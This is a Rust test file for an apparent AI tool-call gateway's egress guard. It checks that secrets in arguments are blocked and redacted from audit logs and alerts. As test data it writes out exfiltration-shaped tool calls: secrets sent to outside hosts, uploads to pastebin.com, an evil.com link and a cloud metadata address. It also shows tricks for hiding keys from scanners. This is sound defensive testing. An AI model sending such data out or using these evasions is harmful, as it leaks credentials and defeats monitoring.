//! Secrets in arguments: every shape found, and never written in clear in the audit log or
//! alerts.

use super::*;

#[test]
fn secrets_of_every_shape_are_blocked_unless_every_destination_is_allow_listed() {
    let dir = util::scratch("egress-secrets");
    let ghp = github_token();
    let secret = |ptr: &str| blocked("exfil.secret", "Secret in Arguments", Some(ptr));

    // The enforcing policy: secrets with no destination, or only allow-listed ones.
    let enforce = write(&dir, "enforce.yaml", ENFORCE);
    let mut expected: Vec<(Value, Fate)> = vec![
        (json!({"key": aws_key()}), secret("/key")),
        (json!({"pem": pem_block()}), secret("/pem")),
        (json!({"auth": {"token": ghp}}), secret("/auth/token")),
        (json!({"session": jwt()}), secret("/session")),
        (
            json!({"headers": [format!("Authorization: Bearer {}", bearer_token())]}),
            secret("/headers/0"),
        ),
        (json!({"blob": high_entropy()}), secret("/blob")),
        // A token sent to the caller's own API is not a leak.
        (
            json!({"url": "https://api.corp.example/x", "token": ghp}),
            Fate::Forwarded,
        ),
        (
            json!({"url": "https://api.corp.example/x", "mirror": "github.com", "token": ghp}),
            Fate::Forwarded,
        ),
    ];
    let lines: Vec<String> = expected
        .iter()
        .enumerate()
        .map(|(i, (args, _))| call(i as i64 + 1, "fetch", args))
        .collect();
    let out = demo(&dir, Some(&enforce), &lines);
    assert_fates("enforce", &fates(&out.stdout), &expected, &out);
    assert_audited(&dir, "fetch", &expected);
    for v in util::json_lines(out.stdout.as_bytes()) {
        if let Some(d) = v["error"]["data"]["detail"].as_str() {
            assert!(d.contains("names no allow-listed destination"), "{v}");
            assert!(d.contains("the value is not logged"), "{v}");
        }
    }

    // Only the secrets check on, so that an unlisted destination is not itself a finding: a
    // secret in a call with one destination that is not allow-listed is blocked.
    let sub = dir.join("secrets-only");
    std::fs::create_dir_all(&sub).unwrap();
    let only = write(
        &sub,
        "secrets-only.yaml",
        &ENFORCE.replace(
            "checks: [denied, unlisted, private, metadata, secrets]",
            "checks: [secrets]",
        ),
    );
    expected = vec![
        (
            json!({"url": "https://example.org/x", "token": ghp}),
            secret("/token"),
        ),
        (
            json!({"url": "https://api.corp.example/x", "cc": "https://example.org/", "token": ghp}),
            secret("/token"),
        ),
        (
            json!({"url": "https://api.corp.example/x", "cc": "http://10.0.0.5/", "token": ghp}),
            secret("/token"),
        ),
        (
            json!({"url": "https://api.corp.example/x", "token": ghp}),
            Fate::Forwarded,
        ),
        (json!({"token": ghp}), secret("/token")),
        (json!({"url": "https://example.org/x"}), Fate::Forwarded),
    ];
    let lines: Vec<String> = expected
        .iter()
        .enumerate()
        .map(|(i, (args, _))| call(i as i64 + 1, "fetch", args))
        .collect();
    let out = demo(&sub, Some(&only), &lines);
    assert_fates("secrets only", &fates(&out.stdout), &expected, &out);
    assert_audited(&sub, "fetch", &expected);
    let detail = |id: i64| {
        util::json_lines(out.stdout.as_bytes())
            .into_iter()
            .find(|v| v["id"] == json!(id))
            .and_then(|v| v["error"]["data"]["detail"].as_str().map(str::to_owned))
            .unwrap_or_default()
    };
    assert!(
        detail(1).contains("destinations are not all allow-listed"),
        "{}",
        detail(1)
    );
    assert!(
        detail(5).contains("names no allow-listed destination"),
        "{}",
        detail(5)
    );
}

/// Asserts no secret of [`secrets`] (its distinctive part) is in the audit log, on stderr, or
/// in any error the gateway returned; and that every audit entry and every BLOCKED alert the
/// run should have produced is there (so the absence means something).
#[track_caller]
fn assert_no_clear_secret(what: &str, dir: &Path, out: &Out, entries: usize, alerts: usize) {
    let audit = std::fs::read_to_string(dir.join("audit.log")).unwrap_or_default();
    assert_eq!(
        audit.lines().count(),
        entries,
        "{what}: audit entries: {audit}"
    );
    assert_eq!(
        out.stderr.matches("[SENTINEL] BLOCKED").count(),
        alerts,
        "{what}: alerts: {}",
        out.stderr
    );
    let errors: Vec<&str> = out
        .stdout
        .lines()
        .filter(|l| l.contains("\"error\""))
        .collect();
    for (kind, _, core) in secrets() {
        assert!(
            !audit.contains(&core),
            "{what}: {kind} in clear in the audit log: {audit}"
        );
        assert!(
            !out.stderr.contains(&core),
            "{what}: {kind} in clear on stderr: {}",
            out.stderr
        );
        for e in &errors {
            assert!(
                !e.contains(&core),
                "{what}: {kind} in the error returned: {e}"
            );
        }
    }
    assert!(
        !audit.contains("BEGIN RSA PRIVATE"),
        "{what}: private key header in the audit log"
    );
}

/// The `details` of each audit entry as text (a JSON message, or the string kept for a line
/// that is not valid JSON), by message id (-1 when there is none).
fn details_by_id(dir: &Path) -> Vec<(i64, String, String)> {
    util::audit_entries(dir)
        .iter()
        .map(|e| {
            let d = match &e["details"] {
                Value::String(s) => s.clone(),
                other => other.to_string(),
            };
            (
                e["message_id"].as_i64().unwrap_or(-1),
                e["rule"].as_str().unwrap_or("?").to_owned(),
                d,
            )
        })
        .collect()
}

#[test]
fn secrets_blocked_by_the_guard_are_never_written_in_clear() {
    let dir = util::scratch("egress-secret-leaks");
    let policy = write(&dir, "enforce.yaml", ENFORCE);
    let s = secrets();
    let mut lines: Vec<String> = s
        .iter()
        .enumerate()
        .map(|(i, (_, secret, _))| {
            call(
                i as i64 + 1,
                "fetch",
                &json!({"note": format!("use {secret} now"), "n": 1}),
            )
        })
        .collect();
    // Hidden by JSON escapes: \u0041 is "A".
    let escaped = aws_key().replacen('A', "\\u0041", 1);
    lines.push(raw_call(7, "fetch", &format!(r#"{{"key":"{escaped}"}}"#)));
    let out = demo(&dir, Some(&policy), &lines);

    let mut expected: Vec<(Value, Fate)> = s
        .iter()
        .map(|(kind, _, _)| {
            let fate = blocked("exfil.secret", "Secret in Arguments", Some("/note"));
            (json!({ "kind": kind }), fate)
        })
        .collect();
    expected.push((
        json!({"kind": "escaped aws_access_key_id"}),
        blocked("exfil.secret", "Secret in Arguments", Some("/key")),
    ));
    assert_fates("secrets", &fates(&out.stdout), &expected, &out);
    assert_no_clear_secret("guard", &dir, &out, 7, 7);
    assert!(!out.stdout.contains(&escaped), "{}", out.stdout);

    // Each entry says what it redacted.
    let details = details_by_id(&dir);
    for (i, (kind, _, _)) in s.iter().enumerate() {
        let (_, _, d) = &details[i];
        assert!(
            d.contains(&format!("[REDACTED {kind}]")),
            "entry {}: {d}",
            i + 1
        );
    }
    assert!(
        details[6].2.contains("[REDACTED aws_access_key_id]"),
        "{}",
        details[6].2
    );
}

/// One refused line: (message id or -1, the rule that refused it, the kinds redacted in its
/// audit `details`).
type Refused = (i64, &'static str, Vec<&'static str>);

/// Lines that hold secrets and are refused by something other than the egress guard: the SQL
/// guard (a secret in a value, in an object key, in an escaped key, in one element of a batch)
/// and the parser (invalid JSON, with plain and escaped secrets, a PEM block, invalid UTF-8).
/// Returns the input and, per line, (message id or -1, expected rule, kinds redacted).
fn refused_for_other_reasons() -> (Vec<u8>, Vec<Refused>) {
    let aws = aws_key();
    let ghp = github_token();
    let escaped = aws.replacen('A', "\\u0041", 1);
    let pem = serde_json::to_string(&pem_block()).unwrap(); // with \n escapes
    let unbounded = "SELECT * FROM t";
    let mut input: Vec<u8> = Vec::new();
    let mut push = |line: &str| {
        input.extend_from_slice(line.as_bytes());
        input.push(b'\n');
    };
    push(&call(1, "query", &json!({"query": unbounded, "key": aws})));
    push(&call(
        2,
        "query",
        &json!({"query": unbounded, aws.as_str(): "v"}),
    ));
    push(&raw_call(
        3,
        "query",
        &format!(r#"{{"query":"{unbounded}","{escaped}":1}}"#),
    ));
    push(&call(
        4,
        "query",
        &json!({"query": unbounded, "pem": pem_block(), "jwt": jwt()}),
    ));
    // Malformed: a trailing comma (not JSON), the id is unreadable.
    push(&format!(
        r#"{{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{{"name":"fetch","arguments":{{"key":"{aws}",}}}}}}"#
    ));
    push(&format!(
        r#"{{"jsonrpc":"2.0","id":6,"method":"tools/call","params":{{"name":"fetch","arguments":{{"key":"{escaped}",}}}}}}"#
    ));
    push(&format!(
        r#"{{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{{"name":"fetch","arguments":{{"pem":{pem},}}}}}}"#
    ));
    // A batch: the clean element goes through, the other is refused by the SQL guard.
    push(&format!(
        "[{},{}]",
        call(8, "query", &json!({"query": "SELECT 1 LIMIT 1"})),
        call(
            9,
            "query",
            &json!({"query": unbounded, "auth": format!("Bearer {}", bearer_token())})
        )
    ));
    // Invalid UTF-8 around a secret.
    input.extend_from_slice(
        br#"{"jsonrpc":"2.0","id":10,"method":"tools/call","params":{"name":"fetch","arguments":{"k":""#,
    );
    input.extend_from_slice(b"\xff\xfe ");
    input.extend_from_slice(format!(r#"{ghp} {}"}}}}}}"#, high_entropy()).as_bytes());
    input.push(b'\n');
    let expect = vec![
        (1, "sql.unbounded_read", vec!["aws_access_key_id"]),
        (2, "sql.unbounded_read", vec!["aws_access_key_id"]),
        (3, "sql.unbounded_read", vec!["aws_access_key_id"]),
        (4, "sql.unbounded_read", vec!["private_key", "jwt"]),
        (-1, "jsonrpc.malformed", vec!["aws_access_key_id"]),
        (-1, "jsonrpc.malformed", vec!["aws_access_key_id"]),
        (-1, "jsonrpc.malformed", vec!["private_key"]),
        (9, "sql.unbounded_read", vec!["bearer_token"]),
        (
            -1,
            "jsonrpc.malformed",
            vec!["github_token", "high_entropy"],
        ),
    ];
    (input, expect)
}

#[test]
fn secrets_in_lines_refused_by_other_rules_or_malformed_are_never_written_in_clear() {
    let dir = util::scratch("egress-secret-other");
    let policy = write(&dir, "sql.yaml", SQL_ONLY);
    let (input, expect) = refused_for_other_reasons();
    let out = demo_bytes(&dir, Some(&policy), &input);
    assert_no_clear_secret("sql only", &dir, &out, expect.len(), expect.len());

    let details = details_by_id(&dir);
    let got: Vec<(i64, &str)> = details.iter().map(|(id, r, _)| (*id, r.as_str())).collect();
    let want: Vec<(i64, &str)> = expect.iter().map(|(id, r, _)| (*id, *r)).collect();
    assert_eq!(got, want, "audit entries");
    for ((id, _, d), (_, _, kinds)) in details.iter().zip(&expect) {
        for k in kinds {
            assert!(d.contains(&format!("[REDACTED {k}]")), "entry {id}: {d}");
        }
    }
    // The clean batch element went through (echoed as a one-element batch).
    assert!(
        out.stdout.contains(r#""query":"SELECT 1 LIMIT 1""#),
        "{}",
        out.stdout
    );
}

#[test]
fn under_the_builtin_default_a_secret_is_redacted_in_the_monitored_and_the_blocked_entry() {
    let dir = util::scratch("egress-secret-default");
    let aws = aws_key();
    let lines = vec![call(
        1,
        "query",
        &json!({"query": "SELECT * FROM t", "key": aws}),
    )];
    let out = demo(&dir, None, &lines);
    assert_eq!(
        fates(&out.stdout).get(&1),
        Some(&blocked(
            "sql.unbounded_read",
            "Data Exfiltration Prevention",
            Some("/query")
        )),
        "{out:?}"
    );
    assert_no_clear_secret("default", &dir, &out, 2, 1);
    assert!(
        out.stderr
            .contains("[SENTINEL] monitored tools/call id=1 tool=query rule=egress.secret"),
        "{}",
        out.stderr
    );
    let details = details_by_id(&dir);
    let rules: Vec<&str> = details.iter().map(|(_, r, _)| r.as_str()).collect();
    assert_eq!(rules, ["egress.secret", "sql.unbounded_read"]);
    for (_, _, d) in &details {
        assert!(d.contains("[REDACTED aws_access_key_id]"), "{d}");
    }
}

// ---- secrets and destinations in odd places: duplicate keys, host names, ids, keys ----

/// serde_json keeps the last of two duplicate keys, so a redactor that only re-parsed the line
/// would never see a secret in the first one and would log the line as it came.
#[test]
fn a_secret_in_a_duplicated_key_of_a_refused_line_is_not_logged_in_clear() {
    let dir = util::scratch("egress-odd-dup");
    let aws = aws_key();
    let line = format!(
        r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"fetch","arguments":{{"key":"{aws}","key":"x"}}}}}}"#
    );
    let out = demo(&dir, None, &[line]);
    let replies = util::json_lines(out.stdout.as_bytes());
    assert_eq!(replies.len(), 1, "{out:?}");
    assert_eq!(replies[0]["error"]["data"]["rule"], "jsonrpc.malformed");
    assert_no_clear_secret("duplicate key", &dir, &out, 1, 1);
}

/// Host names are lower-cased before they are judged, and the redactor (looking for the
/// upper-case `AKIA...` shape) would not recognise a key in a quoted host. An AWS access key id
/// is upper case by definition: its lower-case form would give it away.
#[test]
fn a_secret_in_a_host_name_is_not_quoted_in_explanations() {
    let dir = util::scratch("egress-odd-host");
    let policy = write(&dir, "enforce.yaml", ENFORCE);
    let aws = aws_key();
    let lines = vec![call(
        1,
        "fetch",
        &json!({"url": format!("https://{aws}.x.ngrok.io/")}),
    )];
    let out = demo(&dir, Some(&policy), &lines);
    assert_eq!(
        fates(&out.stdout).get(&1),
        Some(&blocked("exfil.denied", "Denied Destination", Some("/url"))),
        "{out:?}"
    );
    let lower = aws.to_lowercase();
    let audit = std::fs::read_to_string(dir.join("audit.log")).unwrap_or_default();
    assert!(!audit.to_lowercase().contains(&lower), "audit log: {audit}");
    assert!(
        !out.stderr.to_lowercase().contains(&lower),
        "stderr: {}",
        out.stderr
    );
    assert!(
        !out.stdout.to_lowercase().contains(&lower),
        "error: {}",
        out.stdout
    );
}

/// The gateway redacts with the default detector settings, not the rule's: a secret the rule
/// finds only because of its `entropy_threshold` / `entropy_min_length` is blocked as a secret
/// and then logged in clear.
#[test]
fn secrets_found_with_custom_entropy_settings_are_redacted_too() {
    let dir = util::scratch("egress-odd-entropy");
    let policy = write(
        &dir,
        "entropy.yaml",
        "version: 1\nprofiles:\n  default:\n    rules:\n      - id: keys\n        egress:\n\
         \x20         entropy_threshold: 3.5\n          entropy_min_length: 16\n        action: block\n\
         \x20   breaker: {mode: off}\n",
    );
    // 16 characters, 4.0 bits per character: below the defaults (32, 4.5), above the rule's.
    let token = ["Zx9Q", "w2Lm", "7Rt4", "Kp8V"].concat();
    let out = demo(
        &dir,
        Some(&policy),
        &[call(1, "fetch", &json!({"token": token}))],
    );
    assert_eq!(
        fates(&out.stdout).get(&1),
        Some(&blocked(
            "keys.secret",
            "Secret in Arguments",
            Some("/token")
        )),
        "{out:?}"
    );
    let audit = std::fs::read_to_string(dir.join("audit.log")).unwrap_or_default();
    assert!(!audit.contains(&token), "audit log: {audit}");
}

/// Only `details` is redacted: the audit `message_id` and `tool` fields and the stderr headline
/// quote the request id and the tool name as sent.
#[test]
fn a_secret_in_the_request_id_or_tool_name_is_not_written_in_clear() {
    let dir = util::scratch("egress-odd-id");
    let policy = write(&dir, "sql.yaml", SQL_ONLY);
    let aws = aws_key();
    let args = r#"{"query":"SELECT * FROM t"}"#;
    let lines = vec![
        util::tool_call(&format!("\"{aws}\""), "query", args),
        raw_call(2, &aws, args),
    ];
    let out = demo(&dir, Some(&policy), &lines);
    assert_eq!(util::json_lines(out.stdout.as_bytes()).len(), 2, "{out:?}");
    let audit = std::fs::read_to_string(dir.join("audit.log")).unwrap_or_default();
    assert_eq!(audit.lines().count(), 2, "{audit}");
    assert!(!audit.contains(&aws), "audit log: {audit}");
    assert!(!out.stderr.contains(&aws), "stderr: {}", out.stderr);
}

/// Every secret of a call is redacted in its audit entry, not only the first one: each
/// element of an array (also when JSON escapes hide every one of them from the raw line, so
/// that only the parsed message shows them) and each random run of one string. A token after
/// a bare `name:` (no `//`: not a URL) is judged like any other.
#[test]
fn every_secret_of_an_array_or_of_a_string_is_redacted_in_the_audit_log() {
    let dir = util::scratch("egress-secret-every");
    let policy = write(&dir, "enforce.yaml", ENFORCE);
    let keys = [aws_key(), format!("AKIA{}", "I44QH8DHBEXAMPLE")];
    let hidden: Vec<String> = keys.iter().map(|k| k.replacen('A', "\\u0041", 1)).collect();
    let runs = [high_entropy(), high_entropy().chars().rev().collect()];
    let lines = vec![
        raw_call(
            1,
            "fetch",
            &format!(r#"{{"keys":["{}","{}"]}}"#, hidden[0], hidden[1]),
        ),
        call(
            2,
            "fetch",
            &json!({"note": format!("old={} new={}", runs[0], runs[1])}),
        ),
        call(3, "fetch", &json!({"note": format!("secret:{}", runs[1])})),
    ];
    let out = demo(&dir, Some(&policy), &lines);
    let secret = |pointer: &str| blocked("exfil.secret", "Secret in Arguments", Some(pointer));
    let expected = [
        (json!({"keys": "two escaped keys"}), secret("/keys/0")),
        (json!({"note": "two random runs"}), secret("/note")),
        (json!({"note": "after a colon"}), secret("/note")),
    ];
    assert_fates("every secret", &fates(&out.stdout), &expected, &out);
    let audit = std::fs::read_to_string(dir.join("audit.log")).unwrap_or_default();
    assert_eq!(audit.lines().count(), 3, "{audit}");
    for core in [&keys[0][4..], &keys[1][4..], &runs[0], &runs[1]] {
        assert!(
            !audit.contains(core),
            "{core} in clear in the audit log: {audit}"
        );
        assert!(
            !out.stderr.contains(core),
            "{core} on stderr: {}",
            out.stderr
        );
    }
    let details = details_by_id(&dir);
    let count = |i: usize, kind: &str| details[i].2.matches(&format!("[REDACTED {kind}]")).count();
    assert_eq!(count(0, "aws_access_key_id"), 2, "{}", details[0].2);
    assert_eq!(count(1, "high_entropy"), 2, "{}", details[1].2);
    assert_eq!(count(2, "high_entropy"), 1, "{}", details[2].2);
}

/// The request id is redacted as the raw JSON text it is: a secret right after a `\n` escape
/// in it (`"id":"x\nAKIA..."`) is found only if the scanner treats the escape as a word
/// boundary, which it means to and does not (see `secrets::tests::
/// a_shape_right_after_an_escape_in_escaped_text_is_found`).
#[test]
fn a_secret_after_an_escape_in_the_request_id_is_not_written_in_clear() {
    let dir = util::scratch("egress-odd-id-escape");
    let policy = write(&dir, "sql.yaml", SQL_ONLY);
    let aws = aws_key();
    let line = util::tool_call(
        &format!(r#""x\n{aws}""#),
        "query",
        r#"{"query":"SELECT * FROM t"}"#,
    );
    let out = demo(&dir, Some(&policy), &[line]);
    assert_eq!(util::json_lines(out.stdout.as_bytes()).len(), 1, "{out:?}");
    let audit = std::fs::read_to_string(dir.join("audit.log")).unwrap_or_default();
    assert_eq!(audit.lines().count(), 1, "{audit}");
    assert!(!audit.contains(&aws), "audit log: {audit}");
    assert!(!out.stderr.contains(&aws), "stderr: {}", out.stderr);
}

/// Destinations far into a long argument, in every route the scanner takes (a bare name with
/// a port, a Unicode name, a `+`-joined candidate inside a nested array), are judged like
/// any other; names that only look like addresses or hosts (a version inside a file name, a
/// method call) pass an enforcing policy.
#[test]
fn destinations_deep_in_long_strings_are_found_and_lookalikes_pass() {
    let dir = util::scratch("egress-deep");
    let policy = write(&dir, "enforce.yaml", ENFORCE);
    let pad = "lorem ipsum ".repeat(100);
    let cases = [
        (
            json!({"doc": format!("{pad}upload to pastebin.com:443")}),
            egress_fate("exfil", Some(("denied", "/doc"))),
        ),
        (
            json!({"doc": format!("{pad}see bücher.de")}),
            egress_fate("exfil", Some(("unlisted", "/doc"))),
        ),
        (
            json!({"a": {"b": [1, format!("{pad}q=see+evil.com")]}}),
            egress_fate("exfil", Some(("unlisted", "/a/b/1"))),
        ),
        (
            json!({"cmd": "scp 10.0.0.1_backup.tar ."}),
            egress_fate("exfil", Some(("private", "/cmd"))),
        ),
        (
            json!({"cmd": "docker save python-3.11-slim.tar.gz"}),
            Fate::Forwarded,
        ),
        (json!({"code": "user.info(x)"}), Fate::Forwarded),
        (
            json!({"cmd": "npm i react@18.3.0-canary1"}),
            Fate::Forwarded,
        ),
    ];
    let lines: Vec<String> = cases
        .iter()
        .enumerate()
        .map(|(i, (args, _))| call(i as i64 + 1, "fetch", args))
        .collect();
    let out = demo(&dir, Some(&policy), &lines);
    let expected: Vec<(Value, Fate)> = cases.into_iter().collect();
    assert_fates("deep", &fates(&out.stdout), &expected, &out);
    assert_audited(&dir, "fetch", &expected);
}

/// The guard searches string values only: a destination or a secret written as an object key
/// passes an enforcing rule.
#[test]
fn destinations_and_secrets_in_object_keys_are_found() {
    let dir = util::scratch("egress-odd-keys");
    let policy = write(&dir, "enforce.yaml", ENFORCE);
    let lines = vec![
        call(1, "fetch", &json!({ aws_key(): "v" })),
        call(
            2,
            "fetch",
            &json!({"data": {"https://pastebin.com/raw/1": "v"}}),
        ),
        call(
            3,
            "fetch",
            &json!({"headers": {"http://169.254.169.254/": 1}}),
        ),
    ];
    let out = demo(&dir, Some(&policy), &lines);
    let rules: Vec<Option<String>> = (1..=3)
        .map(|id| match fates(&out.stdout).get(&id) {
            Some(Fate::Blocked { rule, .. }) => Some(rule.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(
        rules,
        [
            Some("exfil.secret".to_owned()),
            Some("exfil.denied".to_owned()),
            Some("exfil.metadata".to_owned())
        ],
        "{out:?}"
    );
}
